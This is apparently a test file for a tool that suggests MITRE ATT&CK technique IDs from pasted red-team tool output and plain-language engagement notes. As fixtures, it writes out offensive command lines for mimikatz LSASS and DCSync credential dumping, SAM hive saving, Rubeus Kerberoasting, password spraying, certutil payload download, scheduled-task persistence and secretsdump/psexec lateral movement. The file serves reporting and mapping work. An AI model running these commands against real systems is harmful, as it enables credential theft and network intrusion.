import { describe, expect, it } from 'vitest';
import { vendoredAttackDataset } from '../attack/index.ts';
import { builtInSuggestionRules, compileSuggestionRules, suggest } from './index.ts';

const top = (text: string) => suggest(text)[0];

describe('suggestion rules file', () => {
  it('references only ATT&CK ids that exist and fit together in the vendored data', () => {
    const data = vendoredAttackDataset();
    const tactics = new Set(data.tactics.map((t) => t.id));
    const techniques = new Map(data.techniques.map((t) => [t.id, t]));
    const problems: string[] = [];
    for (const rule of builtInSuggestionRules()) {
      if (!tactics.has(rule.tactic)) problems.push(`${rule.id}: unknown tactic ${rule.tactic}`);
      if (rule.technique) {
        const t = techniques.get(rule.technique);
        if (!t || t.parent_id) problems.push(`${rule.id}: unknown technique ${rule.technique}`);
        else if (!t.tactic_ids.includes(rule.tactic))
          problems.push(`${rule.id}: ${rule.technique} is not under ${rule.tactic}`);
      }
      if (rule.subtechnique && techniques.get(rule.subtechnique)?.parent_id !== rule.technique)
        problems.push(`${rule.id}: ${rule.subtechnique} is not a sub-technique of ${rule.technique}`);
    }
    expect(problems).toEqual([]);
    expect(builtInSuggestionRules().length).toBeGreaterThan(80);
  });

  it('rejects a broken rule file with the path of the bad rule', () => {
    const rule = { id: 'x', tool: 'X', patterns: ['ok'], tactic: 'TA0006' };
    expect(() =>
      compileSuggestionRules({ version: 1, rules: [rule, { ...rule, id: 'y', patterns: ['(unclosed'] }] }),
    ).toThrow(/rules\[1\]\.patterns\[0\]: invalid regex/);
    expect(() =>
      compileSuggestionRules({ version: 1, rules: [{ ...rule, description: 'Hit {{host}}' }] }),
    ).toThrow(/rules\[0\]\.patterns\[0\]: does not capture \{\{host\}\}/);
    expect(() => compileSuggestionRules({ version: 1, rules: [rule, rule] })).toThrow(/duplicate rule id x/);
  });
});

describe('suggest', () => {
  it('maps common red team tool output to the right technique', () => {
    const cases: Array<[string, string, string | null, string | null]> = [
      ['mimikatz # sekurlsa::logonpasswords', 'TA0006', 'T1003', 'T1003.001'],
      ['procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp', 'TA0006', 'T1003', 'T1003.001'],
      ['mimikatz # lsadump::dcsync /domain:corp.local /user:krbtgt', 'TA0006', 'T1003', 'T1003.006'],
      ['Rubeus.exe kerberoast /outfile:hashes.txt', 'TA0006', 'T1558', 'T1558.003'],
      ['Rubeus.exe asreproast /format:hashcat', 'TA0006', 'T1558', 'T1558.004'],
      ['reg save HKLM\\SAM C:\\Temp\\sam.save', 'TA0006', 'T1003', 'T1003.002'],
      ['nmap -sV -p 445 10.0.0.0/24', 'TA0007', 'T1046', null],
      ['SharpHound.exe -c All --zipfilename corp.zip', 'TA0007', 'T1087', 'T1087.002'],
      ['net group "Domain Admins" /domain', 'TA0007', 'T1069', 'T1069.002'],
      ['whoami /all', 'TA0007', 'T1033', null],
      ['certutil -urlcache -split -f http://10.0.0.9/a.exe a.exe', 'TA0011', 'T1105', null],
      ['schtasks /create /tn Updater /tr C:\\a.exe /sc onlogon', 'TA0003', 'T1053', 'T1053.005'],
      [
        'certipy req -u bob@corp.local -ca CORP-CA -template ESC1 -upn administrator',
        'TA0006',
        'T1649',
        null,
      ],
      [
        'nxc smb 10.0.0.0/24 -u users.txt -p Winter2025 --continue-on-success',
        'TA0006',
        'T1110',
        'T1110.003',
      ],
      ['Import-Module .\\PowerView.ps1; Get-DomainTrust', 'TA0007', 'T1482', null],
      ['evil-winrm -i 10.0.0.5 -u admin -p x', 'TA0008', 'T1021', 'T1021.006'],
      ['wmiexec.py corp/admin@10.0.0.5', 'TA0002', 'T1047', null],
      ['[SMB] NTLMv2-SSP Hash     : bob::CORP:1122334455667788:9B1C...', 'TA0006', 'T1557', 'T1557.001'],
      ['ldapsearch -x -H ldap://dc01 -b "DC=corp,DC=local"', 'TA0007', 'T1087', 'T1087.002'],
      ['Seatbelt.exe -group=system', 'TA0007', 'T1082', null],
      // Descriptions typed in plain words suggest too.
      ['Kerberoasting the SQL service account', 'TA0006', 'T1558', 'T1558.003'],
      ['DCSync of the krbtgt account from WS01', 'TA0006', 'T1003', 'T1003.006'],
      ['Password spraying Autumn2026 against all users', 'TA0006', 'T1110', 'T1110.003'],
      ['Sent a spearphishing email with a link to the HR team', 'TA0001', 'T1566', 'T1566.002'],
    ];
    for (const [text, tactic, technique, sub] of cases) {
      expect(top(text), text).toMatchObject({
        tactic_id: tactic,
        technique_id: technique,
        subtechnique_id: sub,
      });
    }
  });

  it('fills description templates from the command line', () => {
    const s = top('secretsdump.py -just-dc-user krbtgt corp.local/admin:Passw0rd@dc01.corp.local');
    expect(s).toMatchObject({ subtechnique_id: 'T1003.006' });
    const remote = suggest('secretsdump.py corp.local/admin@ws01.corp.local').find(
      (x) => x.rule === 'secretsdump-remote',
    );
    expect(remote?.description).toBe(
      'Dumped SAM and LSA secrets from ws01.corp.local with impacket secretsdump as corp.local\\admin',
    );
    expect(top('GetUserSPNs.py -request corp.local/bob')?.description).toBe(
      'Kerberoasted service accounts in corp.local with impacket GetUserSPNs as bob',
    );
    expect(top('psexec.py corp/admin@10.0.0.7')?.description).toBe(
      'Executed commands on 10.0.0.7 over SMB with PsExec',
    );
    expect(top('PsExec64.exe -s cmd.exe')?.description).toBe(
      'Executed commands on a remote host over SMB with PsExec',
    );
  });

  it('gives one suggestion per distinct selection, drops the current one, and ignores ordinary text', () => {
    const text = 'Rubeus.exe kerberoast\n$krb5tgs$23$*svc$CORP$http/web*$ABCD\nInvoke-Kerberoast';
    const all = suggest(text);
    expect(all.filter((s) => s.subtechnique_id === 'T1558.003')).toHaveLength(1);
    const without = suggest(text, {
      current: { tactic_id: 'TA0006', technique_id: 'T1558', subtechnique_id: 'T1558.003' },
    });
    expect(without.some((s) => s.subtechnique_id === 'T1558.003')).toBe(false);
    expect(suggest('Met the client at 10:00, agreed the scope and the rules of engagement.')).toEqual([]);
    expect(suggest('')).toEqual([]);
  });

  it('stays quick on a large paste (scans a bounded prefix)', () => {
    const big = `${'x'.repeat(1 << 20)}\nmimikatz # sekurlsa::logonpasswords`;
    expect(suggest(big)).toEqual([]);
    expect(suggest(`sekurlsa::logonpasswords\n${'y '.repeat(1 << 19)}`)[0]?.subtechnique_id).toBe(
      'T1003.001',
    );
  });
});
